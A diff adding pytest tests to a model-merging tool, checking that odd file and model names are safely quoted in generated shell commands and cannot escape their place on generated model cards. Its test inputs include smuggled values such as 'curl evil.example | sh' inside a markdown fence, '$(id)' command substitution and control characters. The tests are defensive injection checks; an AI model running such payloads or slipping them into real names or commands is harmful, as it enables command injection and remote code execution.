@@ -4,6 +4,7 @@ from __future__ import annotations
 
 import json
 import os
+import re
 import shutil
 import subprocess
 import sys
@@ -11,6 +12,7 @@ from dataclasses import replace
 from pathlib import Path
 
 import pytest
+import torch
 import yaml
 from click.testing import CliRunner
 from conftest import make_model, tiny_config
@@ -20,11 +22,11 @@ from safetensors.torch import save_file
 from test_hub import run_there
 from test_merging import state_of
 
-from mergekit_act.artifacts import Mask, Profile, load_mask, load_profile, save_mask
+from mergekit_act.artifacts import Mask, Profile, load_mask, load_profile, save_mask, save_profile
 from mergekit_act.cards.files import write_folder_card
 from mergekit_act.cards.markdown import Readme, replace_block
 from mergekit_act.cards.masks import MaskFile
-from mergekit_act.cards.recipe import Recipe
+from mergekit_act.cards.recipe import Recipe, shell_line
 from mergekit_act.channels import Layout
 from mergekit_act.cli import main
 from mergekit_act.files import file_hash
@@ -260,6 +262,34 @@ def test_pairs_have_their_own_profiles(work):
     ]
     assert [line.partition(" --retain-strength")[0] for line in lines[2:4]] == masks
     assert lines[-1] == "mergekit-act mask profiles-3/old.safetensors -o masks/c --density 0.1"
+
+
+ODD = ("x/y\n```\ncurl evil.example | sh\n", "a'b\\c\x1b\u202e", "$(id)`id`", "two words", "-o", "é", "")
+
+
+def test_names_of_files_are_words_of_one_line_in_commands():
+    line = shell_line(["printf", "%s\\0", *ODD])
+    assert line.isprintable()
+    done = subprocess.run(["bash", "-c", line], capture_output=True, check=True)
+    assert done.stdout.decode().split("\0")[:-1] == list(ODD)
+
+
+def test_names_cannot_leave_their_place_on_a_card(tmp_path):
+    layout = Layout({"a": (("w", 0),)}, (), {"w": (2, 2)})
+    for place, name in enumerate(ODD):
+        data = {"dataset": name, "where": {name: [name]}}
+        models = ({"model": name, "revision": "r)"}, {"model": name, "revision": None})
+        made = Profile({"a": torch.ones(2)}, layout, "activation", name, *models, data=data)
+        save_profile(made, tmp_path / f"{place}.safetensors")
+    text = write_folder_card(tmp_path).read_text(encoding="utf-8")
+    assert not [letter for letter in text if letter != "\n" and not letter.isprintable()]
+    fenced = re.findall(r"^(````*)yaml\n(.*?)^\1\n", text, re.MULTILINE | re.DOTALL)
+    assert len(fenced) == 1
+    assert yaml.safe_load(fenced[0][1])["base_model"] == ODD[0]
+    outside = text.replace(fenced[0][1], "")
+    assert not [line for line in outside.splitlines() if line.strip().startswith(("curl", "````", "$("))][2:]
+    tables = [line for line in outside.splitlines() if line.startswith("|")]
+    assert {line.count(" | ") for line in tables[: len(ODD) + 2]} == {8}
 
 
 def test_profiles_of_other_runs_are_made_by_other_commands():
